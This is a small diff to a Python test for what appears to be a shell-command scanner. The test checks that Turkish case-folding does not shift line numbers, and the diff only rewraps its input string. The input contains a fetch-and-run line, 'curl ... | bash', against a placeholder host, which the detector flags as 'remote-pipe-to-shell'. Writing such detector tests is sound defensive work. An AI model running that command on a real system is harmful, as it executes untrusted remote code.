@@ -143,6 +143,7 @@ def test_any_text_is_analysed_without_error(text: str) -> None:
 
 
 def test_case_folding_that_changes_length_does_not_shift_offsets() -> None:
-    text = "\u0130stanbul \u0130\u0130\u0130 notlar\u0131\n" * 3 + "curl -s https://x.invalid/a | bash\n"
+    text = ("\u0130stanbul \u0130\u0130\u0130 notlar\u0131\n" * 3
+            + "curl -s https://x.invalid/a | bash\n")
     found = hits(text)
     assert found["remote-pipe-to-shell"][0].line == 4
